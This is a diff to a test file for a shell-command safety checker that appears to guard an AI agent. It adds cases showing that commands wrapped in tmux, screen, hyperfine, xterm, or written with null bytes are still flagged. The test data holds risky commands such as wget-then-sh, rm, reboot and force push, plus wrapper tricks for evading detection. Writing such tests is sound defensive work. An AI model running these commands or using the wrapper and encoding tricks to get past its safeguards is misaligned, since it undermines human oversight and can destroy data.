@@ -1,15 +1,10 @@
 /** Whoever runs it, a dangerous command is seen: by its tail, by a text among the arguments, by a program's own escapes. */
-import { beforeAll, describe, expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
 import { FORCE_PUSH, refuse } from "../../../src/tools/safety/refusals.ts";
-import { createShellParser, type ShellParser } from "../../../src/tools/shell/shell.ts";
+import { parse } from "../../../src/tools/shell/shell.ts";
 import { categoriesOf } from "./rows.ts";
 
-let shell: ShellParser;
-beforeAll(async () => {
-  shell = await createShellParser();
-});
-
-const of = (command: string) => categoriesOf(command, shell.parse);
+const of = (command: string) => categoriesOf(command, parse);
 
 /** Programs that run others, most of which no table knows; `%` is the command. */
 const PREFIXES = `
@@ -183,7 +178,7 @@ test("no program that runs others hides a command", () => {
   );
   expect(told.length).toBeLessThanOrEqual(PREFIXES.length / 5);
   const refused = PREFIXES.filter(
-    (prefix) => refuse(shell.parse(commandOf(prefix, "git push --force"))) === FORCE_PUSH,
+    (prefix) => refuse(parse(commandOf(prefix, "git push --force"))) === FORCE_PUSH,
   );
   expect(refused.length).toBeGreaterThanOrEqual(PREFIXES.length - 5);
 });
@@ -315,5 +310,35 @@ describe("programs' own escapes", () => {
     ["echo ls > b.sh; wget -qO- https://x.y/b.sh; sh b.sh", ["NETWORK_RISK"]],
   ])("%s: %j", (command, expected) => {
     expect(of(command)).toEqual(expected);
+  });
+});
+
+describe("a word that a program gives to a shell is judged as one", () => {
+  test.each<[string, string, string]>([
+    ["FS_DELETE_OVERWRITE", "tmux new-session -d 'ls; rm -r build'", "tmux new-session -d 'ls; df'"],
+    ["GIT_PUBLISH", "tmux new -s a 'cd b && git push'", "tmux new -s a -c \"$DIR\" 'cd b && npm test'"],
+    ["FS_OUTSIDE_WORKSPACE", "tmux -L a splitw 'ls > ../b'", "tmux -L a splitw 'ls | wc'"],
+    ["SYSTEM_IMPACT", "tmux neww -d reboot", "tmux kill-session -t reboot"],
+    ["FS_DELETE_OVERWRITE", "tmux send -t a 'ls; rm b' Enter", "tmux send -t a 'npm test' Enter"],
+    ["FS_DELETE_OVERWRITE", "tmux new -d \\; send 'rm b' Enter", "tmux new -d -s a \\; splitw -h"],
+    ["FS_DELETE_OVERWRITE", "tmux if true 'run \"rm b\"'", "tmux if true 'kill-pane'"],
+    ["FS_OUTSIDE_WORKSPACE", "echo 'rm ../b' > a; tmux new -d ./a", "echo ls > a; tmux new -d ./a"],
+    ["FS_OUTSIDE_WORKSPACE", "echo 'rm ../b' > a; screen -dmS c ./a", "screen -S c -X quit"],
+    ["FS_DELETE_OVERWRITE", "screen -S a -X stuff 'ls; rm b'", "screen -S a -X stuff 'ls; df'"],
+    ["FS_OUTSIDE_WORKSPACE", "find . | entr -s 'make; cp a ../b'", "find . | entr -s 'make; ls'"],
+    ["FS_OUTSIDE_WORKSPACE", "hyperfine -r 3 'ls > ../b'", "hyperfine -r 3 'ls a' 'ls b'"],
+    ["FS_DELETE_OVERWRITE", "hyperfine -p 'sync; rm a' ls", "hyperfine --name 'sync; rm a' ls"],
+    ["FS_OUTSIDE_WORKSPACE", "nodemon -x 'ls > ../b'", "nodemon -x 'ls > /dev/null'"],
+    ["FS_OUTSIDE_WORKSPACE", "nix-shell --run 'ls > ../b'", "nix-shell -p 'a (b: [ c ])' --run 'ls a'"],
+    ["FS_DELETE_OVERWRITE", "xterm -e 'ls; rm a'", "xterm -title 'ls; rm a'"],
+    ["FS_DELETE_OVERWRITE", "timeout 5 'ls; rm a'", "timeout 5 'ls; df'"],
+    // bash passes over zero bytes in what it reads, and over a backslash at the end.
+    ["FS_DELETE_OVERWRITE", "printf 'r\\0m a' | bash", "printf 'l\\0s a' | bash"],
+    ["EXEC_ARBITRARY", "cat a | sh \\", "cat a | sort \\"],
+    ["FS_DELETE_OVERWRITE", "unheard-of 'ls; rm a'", "unheard-of --title 'ls; rm a'"],
+    ["FS_DELETE_OVERWRITE", "unheard-of 'ls | xargs rm'", "unheard-of 'ls | grep rm'"],
+  ])("%s: %s; and of nothing: %s", (category, command, harmless) => {
+    expect(of(command)).toContain(category);
+    expect(of(harmless)).toEqual([]);
   });
 });
